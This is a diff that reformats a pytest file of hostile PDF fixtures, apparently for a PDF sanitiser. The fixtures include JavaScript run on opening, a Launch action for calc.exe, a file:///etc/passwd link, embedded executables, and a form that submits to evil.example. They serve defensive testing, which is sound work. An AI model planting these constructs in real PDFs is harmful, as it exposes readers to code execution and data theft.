@@ -35,11 +35,21 @@ EMBEDDED = b"<< /Type /EmbeddedFile /Length 9 >>\nstream\nMZpayload\nendstream"
 HOSTILE = {
     "JavaScript run on opening": one_page(b"/OpenAction 4 0 R", more={4: JS_ACTION}),
     **{f"JavaScript hidden in an object stream ({how})": hidden_javascript(how) for how in ENCODINGS},
-    "Launch in a link annotation": one_page(page=b"/Annots [%s]" % (LINK % b"<< /S /Launch /F (calc.exe) >>")),
-    "javascript: URI in a link": one_page(page=b"/Annots [%s]" % (LINK % (b"<< /S /URI /URI (javascript:" + ALERT + b") >>"))),
-    "file: URI in a link": one_page(page=b"/Annots [%s]" % (LINK % b"<< /S /URI /URI (file:///etc/passwd) >>")),
-    "GoToR in a link": one_page(page=b"/Annots [%s]" % (LINK % b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")),
-    "JavaScript chained after a GoTo": one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", more={4: JS_ACTION}),
+    "Launch in a link annotation": one_page(
+        page=b"/Annots [%s]" % (LINK % b"<< /S /Launch /F (calc.exe) >>")
+    ),
+    "javascript: URI in a link": one_page(
+        page=b"/Annots [%s]" % (LINK % (b"<< /S /URI /URI (javascript:" + ALERT + b") >>"))
+    ),
+    "file: URI in a link": one_page(
+        page=b"/Annots [%s]" % (LINK % b"<< /S /URI /URI (file:///etc/passwd) >>")
+    ),
+    "GoToR in a link": one_page(
+        page=b"/Annots [%s]" % (LINK % b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>")
+    ),
+    "JavaScript chained after a GoTo": one_page(
+        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>", more={4: JS_ACTION}
+    ),
     "actions on page events (/AA)": one_page(page=b"/AA << /O 4 0 R /C 4 0 R >>", more={4: JS_ACTION}),
     "document actions (/AA)": one_page(b"/AA << /WC 4 0 R /WP 4 0 R >>", more={4: JS_ACTION}),
     "embedded file (name tree)": one_page(
@@ -50,7 +60,9 @@ HOSTILE = {
         page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 4 0 R >>]",
         more={4: b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>", 5: EMBEDDED},
     ),
-    "document JavaScript (name tree)": one_page(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", more={4: JS_ACTION}),
+    "document JavaScript (name tree)": one_page(
+        b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", more={4: JS_ACTION}
+    ),
     "XFA form with a script": one_page(
         b"/AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true",
         more={4: b"<< /Length 40 >>\nstream\n<script>" + ALERT + b"</script>\n\nendstream"},
@@ -58,23 +70,33 @@ HOSTILE = {
     "form field that submits and runs": one_page(
         b"/AcroForm << /Fields [4 0 R] >>",
         page=b"/Annots [4 0 R]",
-        more={4: WIDGET % b"/A << /S /SubmitForm /F (https://evil.example/) >> /AA << /K 5 0 R >>", 5: JS_ACTION},
+        more={
+            4: WIDGET % b"/A << /S /SubmitForm /F (https://evil.example/) >> /AA << /K 5 0 R >>",
+            5: JS_ACTION,
+        },
     ),
     "JavaScript in an outline item": one_page(
         b"/Outlines 4 0 R",
-        more={4: b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
-              5: b"<< /Title (Go) /Parent 4 0 R /A 6 0 R >>", 6: JS_ACTION},
+        more={
+            4: b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
+            5: b"<< /Title (Go) /Parent 4 0 R /A 6 0 R >>",
+            6: JS_ACTION,
+        },
     ),
     "media: screen annotation with a rendition": one_page(
-        page=b"/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS (" + ALERT + b") >> >>]"
+        page=b"/Annots [<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /JS ("
+        + ALERT
+        + b") >> >>]"
     ),
     "name spelt with #xx escapes": one_page(b"/OpenAction << /S /J#61vaScript /J#53 (" + ALERT + b") >>"),
-    "JavaScript in an object nothing references": one_page(more={4: JS_ACTION, 5: b"<< /OpenAction 4 0 R >>"}),
+    "JavaScript in an object nothing references": one_page(
+        more={4: JS_ACTION, 5: b"<< /OpenAction 4 0 R >>"}
+    ),
     "JavaScript action as a stream": one_page(
         b"/OpenAction << /S /JavaScript /JS 4 0 R >>",
         more={4: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(ALERT), ALERT)},
     ),
-}  # fmt: skip
+}
 
 
 @pytest.fixture(scope="module")
@@ -165,8 +187,11 @@ def test_a_real_tikzposter_made_with_hyperref_is_published_as_made(tmp_path):
     for _ in range(2):  # the second run resolves the reference
         subprocess.run(
             ["pdflatex", "-interaction=nonstopmode", "-no-shell-escape", "poster.tex"],
-            cwd=tmp_path, capture_output=True, timeout=300, check=False,
-        )  # fmt: skip
+            cwd=tmp_path,
+            capture_output=True,
+            timeout=300,
+            check=False,
+        )
     original = (tmp_path / "poster.pdf").read_bytes()
     with pikepdf.open(io.BytesIO(original)) as pdf:
         assert "/OpenAction" in pdf.Root  # what the old check refused
